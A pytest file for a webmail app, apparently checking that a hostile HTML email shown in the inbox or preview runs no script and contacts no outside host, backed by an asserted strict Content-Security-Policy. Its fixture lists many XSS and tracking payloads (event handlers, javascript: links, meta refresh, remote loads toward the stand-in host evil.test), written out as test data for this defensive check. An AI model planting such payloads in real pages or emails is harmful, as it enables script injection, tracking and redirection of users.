"""Mail that wants to act is shown and does nothing: it runs nothing and reaches nobody."""

import contextlib
import socket
import threading

import pytest

EVIL = "http://evil.test"
HOSTILE = f"""From: a@evil.test
Subject: <script>document.title = "run"</script>
Content-Type: text/html; charset=utf-8

<!doctype html><html><head>
<base href="{EVIL}/" target="_top">
<meta http-equiv="refresh" content="0; url={EVIL}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="{EVIL}/style.css"><LINK REL=preconnect HREF={EVIL}>
<link rel="prefetch" href="{EVIL}/prefetch"><link rel="dns-prefetch" href="//evil.test">
<link rel=icon href={EVIL}/icon><link/rel=modulepreload href={EVIL}/module>
<style>@import url({EVIL}/import.css); @font-face {{ font-family: x; src: url({EVIL}/font) }}
body {{ background: url({EVIL}/background); font-family: x }}</style>
<script>parent.document.title = "run"; top.location = "{EVIL}/script";
fetch("{EVIL}/fetch")</script>
<script src="{EVIL}/script.js"></script>
</head><body onload="top.location='{EVIL}/onload'" background="{EVIL}/body">
<h1 id="seen">Seen</h1>
<img src="{EVIL}/image" onerror="parent.document.title = 'run'">
<img srcset="{EVIL}/srcset 2x"><picture><source srcset="{EVIL}/source"><img></picture>
<img src="/api/v1/messages"><img src="x" onerror=alert(1)>
<form id="form" action="{EVIL}/form" method="post"><input name="a" autofocus onfocus="alert(2)">
<button id="submit">Send</button></form>
<a id="leave" href="{EVIL}/link" target="_top" ping="{EVIL}/ping">leave</a>
<a id="stay" href="{EVIL}/stay" target="_self">stay</a>
<a id="run" href="javascript:parent.document.title = 'run'" target="_self">run</a>
<svg xmlns="http://www.w3.org/2000/svg"><script>parent.document.title = "run"</script>
<image href="{EVIL}/svg"/><use href="{EVIL}/use#a"/>
<a href="javascript:alert(3)"><text y="9">x</text></a>
<animate onbegin="alert(4)" attributeName="x" dur="1s"/></svg>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>top.document.title='run'</script>
<img src={EVIL}/srcdoc>"></iframe><iframe src="javascript:alert(5)"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video autoplay poster="{EVIL}/poster" src="{EVIL}/video"></video>
<audio autoplay src="{EVIL}/a"></audio>
<math><mtext><table><mglyph><style>
<img src onerror=alert(6)></style></mglyph></table></mtext></math>
<details open ontoggle="alert(7)">x</details><div style="background: url({EVIL}/inline)">x</div>
<marquee onstart="alert(8)">x</marquee>
</body></html>
"""


@pytest.fixture
def evil():
    """A server of somebody else: its address, and what each who connected to it said."""
    met = []
    with socket.create_server(("127.0.0.2", 0)) as server:

        def meet():
            while True:
                try:
                    peer, _ = server.accept()
                except OSError:
                    return
                with peer, contextlib.suppress(OSError):
                    peer.settimeout(0.2)
                    met.append(b"")
                    met[-1] = peer.recv(1000)

        thread = threading.Thread(target=meet)
        thread.start()
        yield f"http://127.0.0.2:{server.getsockname()[1]}", met
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


@pytest.fixture
def watched(chromium):
    """A tab, and what it did: what it asked for, what became of that, dialogs and windows."""
    context = chromium.new_context(viewport={"width": 1000, "height": 900})
    page = context.new_page()
    page.asked, page.failed, page.acted = [], {}, []
    context.on("request", lambda request: page.asked.append(request.url))
    context.on("requestfailed", lambda request: page.failed.update({request.url: request.failure}))
    context.on("page", lambda _: page.acted.append("a window"))
    page.on("dialog", lambda dialog: (page.acted.append("a dialog"), dialog.dismiss()))
    yield page
    context.close()


@pytest.mark.parametrize("where", ["", "/preview"])
def test_hostile_mail_does_nothing(inbox, watched, evil, where):
    server, met = evil
    mail_id = inbox.deliver(HOSTILE.replace(EVIL, server))
    address = f"{inbox.address}/inbox/{mail_id}{where}"
    watched.goto(address)
    frame = watched if where else watched.frame_locator("iframe.mail")
    frame.locator("#seen").wait_for()
    title = watched.title()
    watched.wait_for_timeout(300)
    assert met == [], "it was connected to before anybody clicked"
    for each in ("#submit", "#run") + (() if where else ("#leave", "#stay")):
        frame.locator(each).click()
    watched.wait_for_timeout(500)
    # Chromium tells of requests, too, that the policy did not let out: those failed for it.
    ours = ("data:", *(f"{inbox.address}/{each}" for each in ("inbox/", "static/")))
    wanted = {each for each in watched.asked if not each.startswith(ours)}
    assert {watched.failed.get(each) for each in wanted} <= {"csp", "origin"}
    assert b"".join(met) == b"", "a click sent something"
    assert watched.acted == []
    assert (watched.url, watched.title()) == (address, title)
    if where:
        assert watched.evaluate("window.origin") == "null"


def test_a_page_without_our_policy_would_reach_them(watched, evil):
    server, met = evil
    watched.set_content(HOSTILE.partition("\n\n")[2].replace(EVIL, server), wait_until="commit")
    watched.wait_for_timeout(300)
    assert b"GET" in b"".join(met)


def test_the_preview_says_so_itself(inbox):
    mail_id = inbox.deliver(HOSTILE)
    answer = inbox.client.get(f"/inbox/{mail_id}/preview")
    policy = answer.headers["content-security-policy"]
    assert policy.split("; ") == [
        "default-src 'none'",
        "img-src data:",
        "style-src 'unsafe-inline'",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-ancestors 'self'",
        "sandbox",
    ]
    assert answer.headers["x-dns-prefetch-control"] == "off"
    lowered = answer.text.lower()
    assert not [each for each in ("<link", "<meta", "<iframe", "<object") if each in lowered]
    assert lowered.count("<base") == 1
